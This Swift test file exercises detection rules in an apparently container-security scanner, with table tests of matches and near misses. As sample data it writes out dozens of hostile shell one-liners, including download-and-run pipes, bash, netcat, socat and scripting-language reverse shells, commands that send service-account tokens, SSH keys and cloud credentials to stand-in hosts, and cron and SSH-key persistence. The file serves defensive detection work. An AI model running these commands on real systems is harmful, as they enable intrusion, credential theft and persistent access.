import JSONView
import Testing

@testable import Rules

/// What rule functions say of texts: what must be seen, and near misses that must not.
struct FunctionCase: CustomTestStringConvertible, Sendable {
    var name: String
    var judge: @Sendable (JSONText) -> Bool
    var seen: [String]
    var nearMisses: [String]
    var testDescription: String { name }
}

@Suite("Functions of rules")
struct FunctionTableTests {
    static let cases: [FunctionCase] = [
        FunctionCase(
            name: "downloadsAndRuns", judge: DownloadAndRun.judge,
            seen: [
                "curl -s http://203.0.113.7/a.sh | bash", "sh -c wget -q -O - 203.0.113.118/d.sh | sh",
                "/bin/sh -c 'curl http://x.example/a | base64 -d | sudo sh -s -- arg'",
                "bash -c \"$(curl -fsSL https://x.example/i.sh)\"", "eval \"$(wget -qO- http://x.example/i)\"",
                "bash <(curl -s http://x.example/i)", "eval 'curl -s http://x.example/i | sh'",
                "curl -o /tmp/a http://x.example/a; chmod +x /tmp/a; /tmp/a -q",
                "wget http://x.example/m && chmod 755 m && ./m", "cd /tmp;curl -O http://x.example/run.sh;sh run.sh",
                "wget -qO /tmp/.x http://x.example/y; nohup /tmp/.x &", "curl http://x.example/p.py | python3 -",
                "renamed -s http://x.example/a | sh",
                "python3 -c \"import urllib.request as u;exec(u.urlopen('http://x.example').read())\"",
                "sh -c (curl -s http://x.example/a || wget -qO- http://x.example/a) | sh",
                "curl -sL http://x.example/t.tgz | tar xz -C /tmp && /tmp/t/run", ". <(curl -s http://x.example)",
                "curl http://x.example/a > /tmp/b; mv /tmp/b /tmp/c; sh /tmp/c",
                "wget -i http://x.example/l -P /opt/w && sh /opt/w/run", "wget -q -i l; chmod +x run; ./run",
            ],
            nearMisses: [
                "curl -fsS http://localhost:8080/healthz", "curl -s http://x.example/api | jq .items",
                "curl -s http://x.example/data | python3 -m json.tool",
                "curl -s http://x.example/data | python3 parse.py",
                "wget -O /data/model.bin http://x.example/model.bin && exec python serve.py", "sh -c echo hi | sh",
                "apt-get update && apt-get install -y curl", "git clone https://x.example/r.git && cd r && make",
                "curl http://x.example/a.tgz | tar xz -C /plugins", "sh entrypoint.sh --url http://x.example",
                "until curl -s http://db:9200; do sleep 1; done; exec sh /app/start.sh",
                "bash -c 'echo $(curl -s http://x.example/v) > /version'",
                "eval 'curl -s http://x.example/i > /tmp/i'", "wget", "", "helm upgrade x https://x.example/chart.tgz",
            ]),
        FunctionCase(
            name: "runsFetchedCode", judge: FetchedCode.judge,
            seen: [
                "git clone https://x.example/r.git && cd r && ./install.sh",
                "git clone --depth 1 -b main https://x.example/r.git /tmp/w && python3 /tmp/w/run.py",
                "cd /tmp; git clone http://198.51.100.7/r; bash r/go.sh", "git clone git@x.example:o/r && cd r && make",
                "svn checkout https://x.example/t t; sh t/x.sh", "git -C /opt clone https://x.example/r; /opt/r/bin/x",
                "pip install https://x.example/p-1.tar.gz", "pip3 install --quiet git+https://x.example/p@main",
                "python3 -m pip install http://198.51.100.7/p.zip", "pip install 'p @ git+https://x.example/p'",
                "npm install -g https://x.example/p.tgz", "npm i github:user/p", "npx --yes github:user/p",
                "pip install -r https://x.example/requirements.txt", "rpm -ivh http://x.example/p.rpm",
                "yum install -y https://x.example/p.rpm", "uv pip install git+https://x.example/p",
                "git clone https://x.example/r && cd r && pip install -r requirements.txt",
                "go run x.example/tool@latest", "go install x.example/tool/cmd/t@v1.2.3",
                "uvx --from git+https://x.example/p p",
                "pip install --index-url http://198.51.100.7/simple p", "npm i --registry=http://198.51.100.7:4873 p",
            ],
            nearMisses: [
                "go run ./cmd/app", "go install ./...", "pip install --index-url http://10.0.0.5/simple p",
                "npm i --registry=https://npm.x.example p",
                "git clone https://x.example/site /usr/share/nginx/html && nginx -g 'daemon off;'",
                "git clone https://x.example/r.git && cd r && git log", "git checkout main && ./run.sh",
                "git clone https://x.example/data /data; python3 /app/train.py", "pip install flask==3.0.0",
                "pip install --index-url https://pypi.example/simple flask", "pip install -r requirements.txt",
                "npm install --registry https://npm.example", "npm ci && npm start", "apt-get install -y git curl",
                "git clone https://x.example/r && cd /app && ./start.sh", "yum install -y httpd", "",
                "helm install x https://x.example/chart.tgz", "kubectl apply -f https://x.example/install.yaml",
                "git clone https://x.example/r && cd r && cat README", "rpm -q kernel",
            ]),
        FunctionCase(
            name: "reverseShell", judge: ReverseShell.judge,
            seen: [
                "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
                "sh -c 'exec 5<>/dev/tcp/203.0.113.7/9; cat <&5 | while read l; do $l 2>&5 >&5; done'",
                "nc -e /bin/sh 203.0.113.7 4444", "ncat 203.0.113.7 443 --sh-exec /bin/bash", "nc -lvpe /bin/bash 9999",
                "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 203.0.113.7 4444 > /tmp/f",
                "socat exec:'bash -li',pty,stderr tcp:203.0.113.7:4444",
                "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"a\",1));os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])'",
                "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,0);connect(S,1);exec(\"/bin/sh -i\");'",
                "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:443 > /tmp/s",
                "php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
                "php -r '$s=fsockopen(\"203.0.113.7\",1);exec(\"sh <&3 >&3 2>&3\");'",
                "telnet 203.0.113.7 1 | /bin/sh | telnet 203.0.113.7 2", "xterm -display 203.0.113.7:1",
                "ruby -rsocket -e 'c=TCPSocket.new(\"a\",1);while(l=c.gets);IO.popen(l){|o|c.print o.read};end'",
            ],
            nearMisses: [
                "until (echo > /dev/tcp/db/5432) 2>/dev/null; do sleep 1; done",
                "timeout 1 bash -c '</dev/tcp/redis/6379'",
                "nc -z db 5432", "socat TCP-LISTEN:80,fork TCP:web:8080",
                "openssl s_client -connect x.example:443 < /dev/null",
                "python3 -c 'import socket;s=socket.socket();s.connect((\"db\",1))'", "nc -lk -p 8080", "bash -i", "",
            ]),
        FunctionCase(
            name: "looksLikeMiner", judge: MinerShape.judge,
            seen: [
                "/usr/sbin/nginx -o stratum+tcp://p.example.com:3333 -u w", "./a --donate-level 1",
                "kworker -o pool.example.com:3333 -u 4" + String(repeating: "8aBcD9xYz1", count: 9) + "Qw2z -p x",
                "x --algo=rx/0 --url=p.example.com:443 --user=w.rig", "t -a ethash -o p.example.com:4444",
                "m --coin monero -u 8" + String(repeating: "AbCdEfGh12", count: 9) + "AbCd",
                "x --cpu-max-threads-hint=50 --url=p.example.com:80",
            ],
            nearMisses: [
                "curl -o out.txt -u user:pw https://x.example:8443/a", "psql -U app -h db.example.com:5432",
                "kafka --url=broker.example.com:9092 --user=app",
                "dapp --address 0x" + String(repeating: "ab12", count: 10),
                "sort -u -o out.txt", "openssl dgst -a sha256", "",
            ]),
        FunctionCase(
            name: "writesPersistence", judge: PersistenceWrite.judge,
            seen: [
                "sh -c echo '* * * * * root curl x' >> /host/etc/cron.d/x",
                "echo key >> /mnt/root/.ssh/authorized_keys",
                "cp /payload.yaml /host/etc/kubernetes/manifests/a.yaml",
                "cat u | tee /host/etc/systemd/system/u.service",
                "chroot /host sh -c 'crontab /tmp/x'", "echo /x.so > /host/etc/ld.so.preload",
                "(crontab -l; echo x) | crontab -",
                "sed -i s/a/b/ /host/etc/passwd", "chroot /host systemctl enable u", "ln -s /x /host/etc/init.d/x",
                "dd if=/x of=/host/etc/rc.local", "echo x >> /host/home/u/.bashrc",
                "install -m 644 a /etc/profile.d/a.sh",
            ],
            nearMisses: [
                "cat /etc/crontab", "cp /etc/passwd /tmp/p", "ls /etc/cron.d", "systemctl status kubelet", "crontab -l",
                "echo done > /var/log/cron.log", "grep root /etc/shadow", "node-agent --systemd-unit=kubelet", "",
                "cron -f", "tar xf /etc/profile.tgz -C /tmp",
            ]),
        FunctionCase(
            name: "runsFromMemory", judge: MemoryExecution.judge,
            seen: [
                "dd if=/x of=/proc/self/mem bs=1 seek=4096 conv=notrunc",
                "cat /x | dd of=/proc/$$/mem bs=1 seek=$((0x1000))",
                "dd of=/proc/4711/mem seek=1 < /x",
                "python3 -c 'import os;f=os.memfd_create(\"\");os.write(f,b);os.execv(\"/proc/self/fd/3\",[])'",
                "perl -e '$f=syscall(319,$n,1);exec {\"/proc/$$/fd/$f\"} \"k\"'",
            ],
            nearMisses: [
                "cat /proc/self/mem", "dd if=/proc/self/mem of=/x", "dd of=/proc/self/oom_score_adj",
                "cat /proc/meminfo",
                "grep memfd_create /x", "dd of=/x seek=1", "",
            ]),
        FunctionCase(
            name: "sendsCredentials", judge: CredentialSend.judge,
            seen: [
                "curl -T /run/secrets/kubernetes.io/serviceaccount/token http://198.51.100.7/",
                "wget --post-file=/root/.aws/credentials http://x.example.net",
                "curl -F f=@/root/.kube/config https://x.example.net",
                "sh -c 'cat /root/.ssh/id_rsa | nc 198.51.100.7 443'",
                "nc 198.51.100.7 443 < /etc/kubernetes/admin.conf",
                "bash -c 'cat /run/secrets/kubernetes.io/serviceaccount/token > /dev/tcp/198.51.100.7/443'",
                "curl -H \"X: $(cat /run/secrets/kubernetes.io/serviceaccount/token)\" http://198.51.100.7/",
                "curl http://c.example.net/?t=$(base64 /run/secrets/kubernetes.io/serviceaccount/token)",
                "scp /root/.ssh/id_rsa u@198.51.100.7:/k",
                "curl -s 169.254.169.254/latest/meta-data/iam/security-credentials/r | curl -d @- https://c.example.net",
            ],
            nearMisses: [
                "curl -H \"Authorization: Bearer $(cat /run/secrets/kubernetes.io/serviceaccount/token)\" https://kubernetes.default/api",
                "curl --cacert /run/secrets/kubernetes.io/serviceaccount/ca.crt https://x.example.net",
                "curl -H \"Authorization: Bearer $(cat /run/secrets/kubernetes.io/serviceaccount/token)\" https://x.example.net/v2/",
                "curl -d \"{jwt: $(cat /run/secrets/kubernetes.io/serviceaccount/token)}\" http://vault:8200/v1/auth",
                "curl -d \"$(cat /run/secrets/kubernetes.io/serviceaccount/token)\" http://10.0.0.7:8200/",
                "cat /run/secrets/kubernetes.io/serviceaccount/token | cut -d. -f2",
                "curl -T /data http://x.example.net",
                "curl -o /root/.kube/config http://x.example.net/c", "curl 169.254.169.254/latest/meta-data/hostname",
                "",
            ]),
        FunctionCase(
            name: "startsOwnProgram", judge: OwnProgram.judge,
            seen: [
                "bash /agent/start.sh --node x", "sh -c exec /agent --all", "/agent --all",
                "sh -c ceph-thing raw activate",
                "/bin/sh -c /sbin/tini -- /usr/lib/d/start &\nn=0\nuntil [[ -f /etc/d/d.log || $n -eq 60 ]]; do\n"
                    + "sleep 1\nn=$(( $n + 1 ))\ndone\ntail -f /etc/d/d.log\n",
                "bash -c '/opt/x/deploy.sh install' > /dev/null",
            ],
            nearMisses: [
                "sh /tmp/x.sh", "sh x.sh", "bash -i", "sh -c 'cp /x /host/usr/bin/x; /x'",
                "sh -c '/x > /host/etc/cron.d/x'",
                "sh -c 'curl http://x.example/a -o /x; /x'", "sh -c sleep 1d", "python3 /app/x.py", "/host/usr/bin/x",
                "sh -c $X", "sh -c 'nsenter -t 1 -m -- /x'", "/opt/.x/y", "bash < /x", "sh -c 'cat /x | sh'", "",
            ]),
        FunctionCase(
            name: "setsKernelLimits", judge: KernelLimits.judge,
            seen: [
                "sysctl -w vm.max_map_count=262144", "/sbin/sysctl -w net.core.somaxconn=1024",
                "sh -c sysctl -w net.ipv4.ip_forward=1 && sysctl -w net.ipv4.conf.all.src_valid_mark=1",
                "sh -c 'set -xe\nD=\"262144\"\nC=$(sysctl -n vm.max_map_count)\nif [ \"$D\" -gt \"$C\" ]; then\n"
                    + "  sysctl -w vm.max_map_count=$D\nfi\n'",
                "iptables --append OUTPUT --destination 169.254.169.254 --jump DROP",
                "sh -c 'sysctl -w net.ipv4.ip_forward=1 && if sysctl net.ipv6.conf.all.forwarding; then "
                    + "sysctl -w net.ipv6.conf.all.forwarding=1; fi'",
            ],
            nearMisses: [
                "sysctl -w kernel.core_pattern=|/x", "sh -c 'sysctl -w vm.max_map_count=1; /x'",
                "sh -c 'echo never > /host-sys/x'",
                "sysctl -p /x", "sh -c 'sysctl -w vm.x=1 | sh'", "iptables-save > /x", "sh -c sysctl -w vm.x=$(curl x)",
                "set -e; echo done", "sh -e /scripts/init.sh", "",
            ]),
        FunctionCase(
            name: "readsClusterCredentials", judge: CredentialRead.ofCluster,
            seen: [
                "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
                "sh -c cat /run/secrets/kubernetes.io/serviceaccount/token",
                "curl -T /var/run/secrets/kubernetes.io/serviceaccount/token http://x.example",
                "cp /root/.kube/config /tmp/c",
                "base64 < /etc/kubernetes/admin.conf", "tar c /etc/kubernetes/pki",
                "python3 -c 'print(open(\"/var/run/secrets/kubernetes.io/serviceaccount/token\").read())'",
                "sh -c 'T=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -H \"Authorization: Bearer $T\" https://x'",
                "kubectl --kubeconfig /var/lib/kubelet/kubeconfig get pods",
                "etcdctl get /registry/secrets --prefix --cert=/etc/kubernetes/pki/etcd/server.crt",
            ],
            nearMisses: [
                "sh -c cat > /root/.kube/config", "sh -c 'mkdir -p /root/.kube && cat > /root/.kube/config'",
                "etcdctl endpoint health --cert=/etc/kubernetes/pki/etcd/server.crt", "cp /tmp/c /root/.kube/config",
                "chmod 600 /root/.kube/config", "tee /root/.kube/config",
                "sh -c 'echo $C | base64 -d > /root/.kube/config && chmod 600 /root/.kube/config'",
                "test -f /root/.kube/config",
                "cat /etc/hosts", "",
            ]),
        FunctionCase(
            name: "readsCredentials", judge: CredentialRead.any,
            seen: [
                "cat /etc/shadow", "cat /root/.ssh/id_rsa", "curl http://169.254.169.254/latest/meta-data/",
                "cat /proc/1/environ",
                "sh -c 'cat /proc/*/environ'", "strings /host/proc/4711/environ", "cat /home/u/.aws/credentials",
                "cat /root/.docker/config.json",
            ],
            nearMisses: [
                "cat /proc/self/environ", "cp /tmp/k /root/.ssh/id_rsa", "sh -c 'cat > /root/.docker/config.json'",
                "env",
                "touch /root/.aws/credentials", "",
            ]),
        FunctionCase(
            name: "isHostRoot", judge: HostPath.isRoot,
            seen: [
                "/", "//", "/./", "/../", "/etc/..", "/proc/1/root", "/proc/self/root/", "C:\\", "c:/", "/home/../",
            ],
            nearMisses: ["", "/etc", "/root", "/proc", "/proc/1/root/etc", "rootfs", "C:\\data", "/..x"]),
        FunctionCase(
            name: "isRuntimeSocket", judge: HostPath.isRuntimeSocket,
            seen: [
                "/var/run/docker.sock", "/run/docker.sock", "/run/containerd/containerd.sock",
                "/run/k3s/containerd/containerd.sock",
                "/var/run/crio/crio.sock", "/run/user/1000/docker.sock", "/var/run", "/run", "/run/containerd",
                "/opt/x/../../var/run/docker.sock", "\\\\.\\pipe\\docker_engine", "/run/podman/podman.sock",
                "/tmp/docker.sock",
            ],
            nearMisses: [
                "", "/var/run/secrets", "/run/xtables.lock", "/run/systemd/notify", "/var/lib/docker",
                "/run/mysqld/mysqld.sock",
                "/etc/docker", "/run/cilium",
            ]),
        FunctionCase(
            name: "isSecretName", judge: SecretName.judge,
            seen: [
                "DB_PASSWORD", "dbPassword", "AWS_SECRET_ACCESS_KEY", "API_KEY", "github-token", "PGPASSWORD",
                "authorization",
                "connectionString", "privateKey", "JWT",
            ],
            nearMisses: [
                "", "PASSWORD_FILE", "TOKENIZER", "AUTHOR", "KEYBOARD", "SECRET_NAME", "PATH", "MONKEY", "PASSENGER",
                "KEY",
            ]),
        FunctionCase(
            name: "looksEncoded", judge: Payloads.looksEncoded,
            seen: [
                // A shell script, a gzip stream and a hexadecimal script.
                "echo IyEvYmluL3NoCnNsZWVwIDM2MDA7IGVjaG8gaGVsbG8gd29ybGQ7IGV4aXQgMAojIGhhcm1sZXNzIHRlc3QK | base64 -d",
                "H4sIAAAAAAAAA1NWVFRQVFLiAgBmzxn8CAAAAKv6xQ9hB3q2mzv9s0Z1dX7QxwJmR0sYfQm8a0nq6g==",
                "printf "
                    + "23212f62696e2f73680a736c65657020333630303b206563686f2068656c6c6f20776f726c640a23206861726d6c65737320",
                "printf '" + String(repeating: "\\x41", count: 30) + "'",
            ],
            nearMisses: [
                "", "sha256:" + String(repeating: "0a1b2c3d", count: 8),
                "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.SflKxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c",
                "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDJ8sT0q1Wb3nYxkR5mZ7vLh2gQfJpUoE4cVtN6yXaBzMdKwHsGiFrPuTlOeSjCxQnDy",
                "/usr/share/ca-certificates/mozilla/GlobalSign_Root_CA_Extended_Validation_Certificate_R3.crt",
                "2f1c8a9e-4d3b-4c5d-8e7f-0123456789ab", "AbCdEfGhIjKlMnOpQrStUvWxYz0123456789+/==",
            ]),
    ]

    @Test("What a function must see it sees, near misses it leaves alone", arguments: cases)
    func table(_ sample: FunctionCase) {
        for text in sample.seen { #expect(text.withText(sample.judge), "\(sample.name) sees: \(text)") }
        for text in sample.nearMisses { #expect(!text.withText(sample.judge), "\(sample.name) leaves: \(text)") }
    }

    @Test(
        "Payloads are decoded, also one inside another",
        arguments: [
            ("echo c2xlZXAgMzYwMDsgZWNobyBo | base64 -d | sh", ["sleep 3600; echo h"]),
            ("YzJ4bFpYQWdNell3TURzZ1pXTm9ieUJv", ["c2xlZXAgMzYwMDsgZWNobyBo", "sleep 3600; echo h"]),
            ("736c65657020333630303b206563686f2068", ["sleep 3600; echo h"]), ("nothing here at all, just words", []),
            ("printf '\\x73\\x6c\\x65\\x65\\x70'", ["printf 'sleep'"]),
        ])
    func decoded(_ text: String, _ expected: [String]) {
        #expect(text.withText { Payloads.decoded($0).map { String(decoding: $0, as: UTF8.self) } } == expected)
    }

    @Test(
        "No text takes long or stops the reader",
        arguments: [
            String(repeating: "$(", count: 50_000), String(repeating: "'", count: 99_999),
            String(repeating: "a|", count: 100_000),
            String(repeating: "curl http://x | ", count: 10_000), String(repeating: "A", count: 1 << 20),
            String(repeating: "sh -c ", count: 20_000), String(repeating: "`", count: 70_001),
            String(repeating: "\\x41", count: 200_000),
            "curl \u{0}\u{FFFD}|sh", String(repeating: "H4sIAAAAAAAA", count: 20_000),
            String(repeating: "/../", count: 100_000),
            "-o " + String(repeating: ":", count: 100_000), "curl <", "wget -O", "nc -", "\\", "<(", ">&", "2>", "$(",
            "sh -c",
        ])
    func hostile(_ text: String) {
        for sample in Self.cases { _ = text.withText(sample.judge) }
        _ = text.withText { Payloads.decoded($0).count }
    }
}
